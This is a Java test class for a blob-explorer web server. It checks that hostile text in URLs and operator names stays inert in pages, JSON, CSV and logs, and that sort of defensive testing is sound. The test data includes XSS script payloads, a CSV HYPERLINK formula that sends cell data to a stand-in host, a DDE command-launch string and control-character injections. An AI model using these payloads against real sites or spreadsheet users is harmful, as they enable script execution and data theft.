package dev.vibrissa.server.pages;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vibrissa.server.api.CsvRows;
import dev.vibrissa.server.api.IndexedScenario;
import io.quarkus.bootstrap.logging.InitialConfigurator;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.jboss.logmanager.ExtLogRecord;
import org.jboss.logmanager.Level;
import org.jboss.logmanager.handlers.ConsoleHandler;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What people put into addresses of pages comes back as text, if at all. What operators call themselves is a text in JSON,
 * CSV, pages and the log.
 */
@QuarkusTest
@WithTestResource(IndexedScenario.class)
class HostileTextTest {
    private static final String MARKUP = "\"'><img src=x onerror=alert(1)><script>alert(1)</script>{frame.query}";

    static Stream<String> fields() {
        return Stream.of(
                "/search?q=",
                "/blobs?owner=",
                "/blobs?attribute=",
                "/blobs?status=",
                "/blobs?cursor=",
                "/operators?name=",
                "/operators?commission=",
                "/operators?window=",
                "/delegate?stake=",
                "/delegate?nodes=",
                "/economics?at=",
                "/expiry?at=",
                "/governance?at=",
                "/governance/report?from=",
                "/method?version=",
                "/blobs/",
                "/operators/",
                "/addresses/",
                "/objects/",
                "/transactions/",
                "/probes/",
                "/rounds/",
                "/epochs/",
                "/expiry/",
                "/watch/",
                "/watch/blobs/",
                "/watch/operators/",
                "/evidence/",
                "/evidence/served?window=",
                "/evidence/bound?of=");
    }

    @ParameterizedTest
    @MethodSource("fields")
    void markupIsInert(String field) {
        var answer = given().urlEncodingEnabled(false).get(field + encoded(MARKUP));
        assertThat(answer.statusCode()).as(field).isLessThan(500);
        assertThat(answer.asString()).as(field).doesNotContain("<img", "<script>alert");
        if (answer.statusCode() != 404 || answer.asString().startsWith("<!doctype")) {
            assertThat(answer.header("Content-Security-Policy"))
                    .as(field)
                    .contains("script-src 'self'", "default-src 'none'");
        }
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    @ParameterizedTest
    @MethodSource("notations")
    void aBlobIsFoundInEveryNotation(String notation) {
        var answer = given().redirects().follow(false).queryParam("q", notation).get("/search");
        assertThat(answer.statusCode()).isEqualTo(303);
        assertThat(answer.header("Location")).endsWith("/blobs/L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc");
    }

    static List<String> notations() {
        return List.of(
                "L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc",
                "  \"L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc\" ",
                "https://walruscan.com/mainnet/blob/L50C2qTqJ8F5GPg1GBdZ1mPTIThh59QBXYB2g58jFWc?a=b",
                "46625573054035100684964930957020137964408515386414546477449106286187215232303");
    }

    private static final List<String> PLACES = List.of(
            "/v1/operators", "/v1/scores", "/v1/epochs/2/committee", "/v1/delegation/compare", "/v1/search?q=zzz");

    @Inject
    DataSource dataSource;

    private void rename(String name) throws SQLException {
        try (var db = dataSource.getConnection();
                var update = db.prepareStatement("update operator_profile set name = ?, description = ?")) {
            update.setString(1, name);
            update.setString(2, name);
            update.executeUpdate();
        }
    }

    /** As they were: other tests share the database. */
    @AfterEach
    void nameAgain() throws SQLException {
        try (var db = dataSource.getConnection();
                var update = db.prepareStatement("update operator_profile p set name = o.name, description = ''"
                        + " from operator o where o.node_id = p.node_id")) {
            update.executeUpdate();
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://example.test/?\"&A1,\"zzz\")",
                "+zzz|' /C calc'!A0",
                "-zzz()",
                "@SUM(1;zzz)",
                "\t=zzz",
                "\r=zzz",
                "\n=zzz\r\n@zzz",
                "zzz\"\n=1+1,=1+1",
                "<img src=x onerror=alert(1)>zzz",
                "zzz</script><script>alert(1)</script>",
                "{frame.query}zzz",
                "\u202ezzz\u001b[2J"
            })
    void aNameIsInertWhereverItIsShown(String name) throws SQLException {
        rename(name);
        for (String place : PLACES) {
            assertThat(given().get(place).getBody().jsonPath().getString("asOf"))
                    .as(place)
                    .isNotEmpty();
            String csv = given().accept("text/csv").get(place).asString();
            for (List<String> row : CsvRows.of(csv)) {
                assertThat(row).as("cells of " + place).noneMatch(HostileTextTest::beginsLikeFormula);
            }
        }
        assertThat(given().get("/v1/operators").jsonPath().getList("items.name"))
                .contains(name);
        for (String page : List.of("/operators", "/search?q=zzz")) {
            assertThat(given().get(page).asString())
                    .as(page)
                    .doesNotContain("<img src=x", "<script>alert", "\u202e", "\u001b");
        }
    }

    private static boolean beginsLikeFormula(String cell) {
        return !cell.isEmpty() && "=+@\t\r\n".indexOf(cell.charAt(0)) >= 0 || cell.startsWith("-zzz(");
    }

    /** What it does is tested where it is; here, that the server's console has it. */
    @Test
    void theConsoleKeepsEventsOnTheirLines() {
        assertThat(Arrays.stream(InitialConfigurator.DELAYED_HANDLER.getHandlers())
                        .filter(ConsoleHandler.class::isInstance))
                .isNotEmpty()
                .allSatisfy(handler -> {
                    var event = new ExtLogRecord(Level.INFO, "name=a\nb", ExtLogRecord.FormatStyle.NO_FORMAT, "test");
                    assertThat(handler.getFilter()).isNotNull();
                    assertThat(handler.getFilter().isLoggable(event)).isTrue();
                    assertThat(event.getMessage()).isEqualTo("name=a\\nb");
                });
    }
}
